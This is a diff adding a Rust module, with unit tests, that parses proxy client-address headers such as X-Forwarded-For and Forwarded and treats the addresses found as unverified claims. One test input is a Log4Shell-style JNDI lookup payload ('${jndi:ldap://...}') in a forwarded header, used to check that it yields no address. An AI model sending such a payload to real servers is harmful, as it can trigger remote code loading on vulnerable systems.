@@ -1,0 +1,186 @@
+//! Who a request says that it is from: the headers by which a proxy for HTTP passes the client's address on.
+//!
+//! In: a parsed head. Out: addresses, each with the header that names it. Whoever connects writes what they like there, so
+//! that these are claims: they are shown beside the source, and never in its place.
+
+use std::net::{IpAddr, SocketAddr};
+
+use forever200_identify::http;
+use serde::Serialize;
+
+/// Headers that are read. `X-Forwarded-For` and `Forwarded` (RFC 7239) have a list, the client first; the others are those
+/// of nginx, Cloudflare and Akamai.
+const HEADERS: [&str; 5] = [
+    "X-Forwarded-For",
+    "Forwarded",
+    "X-Real-IP",
+    "CF-Connecting-IP",
+    "True-Client-IP",
+];
+/// What each of these has in it, in lower case, for a search through bytes that may have one.
+pub(crate) const HEADERS_CONTAIN: [&str; 4] = [
+    "forwarded",
+    "x-real-ip",
+    "cf-connecting-ip",
+    "true-client-ip",
+];
+/// By this a list of `Forwarded` says for whom: RFC 7239, 5.2.
+const FOR: &str = "for=";
+/// Claims of one request. A chain of proxies has two or three.
+const MOST_CLAIMS: usize = 16;
+/// Members of one list that are looked at.
+const MOST_MEMBERS: usize = 32;
+/// Longest member that may be an address: of IPv6, in brackets and quotes, with a port.
+const MAX_MEMBER_BYTES: usize = 64;
+
+/// An address that a request claims to be from.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
+pub struct Claim {
+    /// The header, as it is usually written.
+    pub header: &'static str,
+    /// The address as it may be shown: itself, or its network.
+    pub address: String,
+    /// The same as a number, for filters.
+    #[serde(skip)]
+    pub ip: IpAddr,
+}
+
+impl Claim {
+    /// Makes a claim of an address, or of the network of this many bits that is shown of it.
+    pub(crate) fn new(header: &'static str, ip: IpAddr, prefix: Option<u8>) -> Self {
+        let address = match prefix {
+            Some(bits) => format!("{ip}/{bits}"),
+            None => ip.to_string(),
+        };
+        Self {
+            header,
+            address,
+            ip,
+        }
+    }
+}
+
+/// Returns what a head claims, in its order; at most 16 claims, each once.
+#[must_use]
+pub fn claims(request: &http::Request<'_>) -> Vec<Claim> {
+    let mut claims = Vec::new();
+    for field in &request.headers {
+        let is_it = |header: &&str| field.name.eq_ignore_ascii_case(header.as_bytes());
+        let Some(header) = HEADERS.into_iter().find(is_it) else {
+            continue;
+        };
+        let value = field.plain_value();
+        let members = value.split(|byte| matches!(byte, b',' | b';'));
+        for member in members.take(MOST_MEMBERS) {
+            let claim = address(member).map(|ip| Claim::new(header, ip, None));
+            claims.extend(claim.filter(|claim| !claims.contains(claim)));
+            if claims.len() == MOST_CLAIMS {
+                return claims;
+            }
+        }
+    }
+    claims
+}
+
+/// Reads an address, with or without a port, brackets and quotes.
+fn address(member: &[u8]) -> Option<IpAddr> {
+    if member.len() > MAX_MEMBER_BYTES {
+        return None;
+    }
+    let text = std::str::from_utf8(member).ok()?.trim();
+    let text = match text.split_at_checked(FOR.len()) {
+        Some((name, rest)) if name.eq_ignore_ascii_case(FOR) => rest,
+        _ => text,
+    };
+    let text = text.trim_matches('"');
+    let inside = text.trim_start_matches('[').trim_end_matches(']');
+    let with_port = || text.parse::<SocketAddr>().map(|it| it.ip());
+    let ip: IpAddr = inside.parse().or_else(|_| with_port()).ok()?;
+    Some(ip.to_canonical())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn told(head: &str) -> String {
+        let raw = format!("GET / HTTP/1.1\r\n{head}\r\n\r\n");
+        let request = http::parse(raw.as_bytes()).unwrap();
+        let claims = claims(&request).into_iter();
+        let told: Vec<_> = claims
+            .map(|it| format!("{} {}", it.header, it.address))
+            .collect();
+        told.join(", ")
+    }
+
+    #[test]
+    fn each_header_is_read_in_each_of_its_forms() {
+        for (head, claimed) in [
+            (
+                "x-forwarded-for: 198.51.100.7",
+                "X-Forwarded-For 198.51.100.7",
+            ),
+            (
+                "X-Forwarded-For: 198.51.100.7:4711,\t10.0.0.1 , 198.51.100.7",
+                "X-Forwarded-For 198.51.100.7, X-Forwarded-For 10.0.0.1",
+            ),
+            (
+                "X-Forwarded-For: ::ffff:198.51.100.7",
+                "X-Forwarded-For 198.51.100.7",
+            ),
+            (
+                "Forwarded: For=\"[2001:db8::7]:4711\";proto=http;by=203.0.113.43, for=198.51.100.7",
+                "Forwarded 2001:db8::7, Forwarded 198.51.100.7",
+            ),
+            ("X-Real-IP: 2001:DB8::7", "X-Real-IP 2001:db8::7"),
+            (
+                "CF-Connecting-IP:[2001:db8::7]",
+                "CF-Connecting-IP 2001:db8::7",
+            ),
+            (
+                "True-Client-IP: 198.51.100.7\r\nX-Real-IP: 198.51.100.7",
+                "True-Client-IP 198.51.100.7, X-Real-IP 198.51.100.7",
+            ),
+        ] {
+            assert_eq!(told(head), claimed, "{head}");
+        }
+    }
+
+    #[test]
+    fn what_is_no_address_is_no_claim() {
+        for head in [
+            "X-Forwarded-For:",
+            "X-Forwarded-For: unknown, _hidden, ${jndi:ldap://198.51.100.7/a}",
+            "X-Forwarded-For: 198.51.100.7.8, 198.51.100, 3325256711, \u{e9}",
+            "Forwarded: by=198.51.100.7;host=198.51.100.7",
+            "X-Forwarded-Host: 198.51.100.7",
+            "Cookie: X-Forwarded-For=198.51.100.7",
+        ] {
+            assert_eq!(told(head), "", "{head}");
+        }
+    }
+
+    #[test]
+    fn there_are_so_many_claims_and_no_more() {
+        let list = |from: u8| {
+            let all: Vec<_> = (from..=250)
+                .map(|last| format!("10.0.{from}.{last}"))
+                .collect();
+            format!("X-Forwarded-For: {}", all.join(","))
+        };
+        assert_eq!(told(&list(0)).split(", ").count(), MOST_CLAIMS);
+        let many = format!("X-Forwarded-For: {}198.51.100.7", "x,".repeat(MOST_MEMBERS));
+        assert_eq!(told(&many), "");
+    }
+
+    #[test]
+    fn a_search_through_bytes_finds_each_header() {
+        for header in HEADERS {
+            let header = header.to_lowercase();
+            assert!(
+                HEADERS_CONTAIN.iter().any(|it| header.contains(it)),
+                "{header}"
+            );
+        }
+    }
+}
